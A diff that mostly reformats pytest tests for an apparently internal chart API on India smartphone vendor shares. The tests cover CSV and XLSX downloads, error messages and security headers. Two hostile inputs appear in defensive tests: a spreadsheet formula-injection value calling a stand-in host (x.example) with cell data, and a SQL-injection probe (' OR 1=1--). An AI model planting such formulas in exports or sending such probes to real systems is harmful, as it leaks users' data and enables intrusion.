@@ -35,14 +35,21 @@ def test_every_chart_renders(client: TestClient, chart_id: str) -> None:
 
 
 def test_csv_download_bytes(client: TestClient) -> None:
-    response = client.get("/api/v1/charts/rank.csv?source=canalys&vendors=xiaomi&from=2022Q4&to=2022Q4")
+    response = client.get(
+        "/api/v1/charts/rank.csv?source=canalys&vendors=xiaomi&from=2022Q4&to=2022Q4"
+    )
     assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert response.headers["content-disposition"] == (
-        'attachment; filename="sharetrack-rank-india-smartphones.csv"')
+        'attachment; filename="sharetrack-rank-india-smartphones.csv"'
+    )
     lines = response.content.decode().splitlines()
-    assert lines[0] == ("source,market,category,vendor,vendor_name,quarter,shipments,share_pct,"
-                        "rank,yoy_growth_pct,status,derived,revision,source_url")
-    assert lines[1].startswith("canalys,india,smartphones,xiaomi,Xiaomi,2022Q4,5500000,17.0,3,-40.0,final,,")
+    assert lines[0] == (
+        "source,market,category,vendor,vendor_name,quarter,shipments,share_pct,"
+        "rank,yoy_growth_pct,status,derived,revision,source_url"
+    )
+    assert lines[1].startswith(
+        "canalys,india,smartphones,xiaomi,Xiaomi,2022Q4,5500000,17.0,3,-40.0,final,,"
+    )
     assert len(lines) == 2
 
 
@@ -58,8 +65,11 @@ def test_xlsx_download_has_no_formulas(client: TestClient) -> None:
 
 def test_formula_looking_names_are_defused_in_downloads(client: TestClient, db: Session) -> None:
     """A vendor name that slipped past upload checks still cannot run in a spreadsheet."""
-    db.execute(update(Vendor).where(Vendor.slug == "xiaomi")
-               .values(name='=HYPERLINK("http://x.example/?"&A1,"x")'))
+    db.execute(
+        update(Vendor)
+        .where(Vendor.slug == "xiaomi")
+        .values(name='=HYPERLINK("http://x.example/?"&A1,"x")')
+    )
     query = "source=canalys&vendors=xiaomi&from=2022Q4&to=2022Q4"
     rows = list(csv.reader(io.StringIO(client.get(f"/api/v1/charts/rank.csv?{query}").text)))
     assert rows[1][4] == '\'=HYPERLINK("http://x.example/?"&A1,"x")'
@@ -70,24 +80,43 @@ def test_formula_looking_names_are_defused_in_downloads(client: TestClient, db: 
 
 
 def test_group_view_counts_bbk_together(client: TestClient) -> None:
-    body = client.get("/api/v1/charts/share.json?by=group&source=canalys&from=2022Q4&to=2022Q4").json()
+    body = client.get(
+        "/api/v1/charts/share.json?by=group&source=canalys&from=2022Q4&to=2022Q4"
+    ).json()
     names = {t["name"] for t in body["figure"]["data"]}
     assert "BBK Electronics" in names and "vivo" not in names
     bbk = next(r for r in body["data"] if r["vendor"] == "group:bbk")
     assert bbk["share_pct"] == 45.0  # vivo 20 + OPPO 17 + realme 8
 
 
-@pytest.mark.parametrize(("url", "status", "message"), [
-    ("/api/v1/charts/pie.json", 404, "unknown chart 'pie'; charts: share, rank, shipments"),
-    ("/api/v1/charts/rank.json?source=nielsen", 404, "unknown source 'nielsen'; known: canalys"),
-    ("/api/v1/charts/rank.json?vendors=nokiax", 404, "unknown vendor 'nokiax'"),
-    ("/api/v1/charts/rank.json?from=2023Q1&to=2022Q1", 422, "'from' (2023Q1) is after 'to' (2022Q1)"),
-    ("/api/v1/charts/rank.json?from=2022Q9", 422, "quarter 9 does not exist"),
-    ("/api/v1/charts/share.json?mode=pie", 422, "mode 'pie' is not valid for the share chart; valid: lines, area100"),
-    ("/api/v1/charts/rank.json?as_of=r9999", 404, "revision r9999 does not exist"),
-    ("/api/v1/charts/rank.json?vendors=' OR 1=1--", 422, "'vendors' must be a slug"),
-])
-def test_bad_queries_get_clear_errors(client: TestClient, url: str, status: int, message: str) -> None:
+@pytest.mark.parametrize(
+    ("url", "status", "message"),
+    [
+        ("/api/v1/charts/pie.json", 404, "unknown chart 'pie'; charts: share, rank, shipments"),
+        (
+            "/api/v1/charts/rank.json?source=nielsen",
+            404,
+            "unknown source 'nielsen'; known: canalys",
+        ),
+        ("/api/v1/charts/rank.json?vendors=nokiax", 404, "unknown vendor 'nokiax'"),
+        (
+            "/api/v1/charts/rank.json?from=2023Q1&to=2022Q1",
+            422,
+            "'from' (2023Q1) is after 'to' (2022Q1)",
+        ),
+        ("/api/v1/charts/rank.json?from=2022Q9", 422, "quarter 9 does not exist"),
+        (
+            "/api/v1/charts/share.json?mode=pie",
+            422,
+            "mode 'pie' is not valid for the share chart; valid: lines, area100",
+        ),
+        ("/api/v1/charts/rank.json?as_of=r9999", 404, "revision r9999 does not exist"),
+        ("/api/v1/charts/rank.json?vendors=' OR 1=1--", 422, "'vendors' must be a slug"),
+    ],
+)
+def test_bad_queries_get_clear_errors(
+    client: TestClient, url: str, status: int, message: str
+) -> None:
     response = client.get(url)
     assert response.status_code == status
     assert message in response.json()["error"]
@@ -108,13 +137,21 @@ def test_observations_api_pages_and_csv(client: TestClient) -> None:
     assert rest["next"] is None
     text = client.get("/api/v1/observations.csv?source=canalys&quarter=2022Q4").text
     assert [r["vendor"] for r in csv.DictReader(io.StringIO(text))] == [
-        "samsung", "vivo", "xiaomi", "oppo", "realme", "others"]
+        "samsung",
+        "vivo",
+        "xiaomi",
+        "oppo",
+        "realme",
+        "others",
+    ]
 
 
 def test_overview_tells_the_story(client: TestClient) -> None:
     page = client.get("/")
     assert page.status_code == 200
-    assert "Samsung overtook Xiaomi to take first place in Q4 2022; Xiaomi fell to third" in page.text
+    assert (
+        "Samsung overtook Xiaomi to take first place in Q4 2022; Xiaomi fell to third" in page.text
+    )
     assert page.headers["content-security-policy"].endswith("frame-ancestors 'self'")
     assert page.headers["x-content-type-options"] == "nosniff"
 
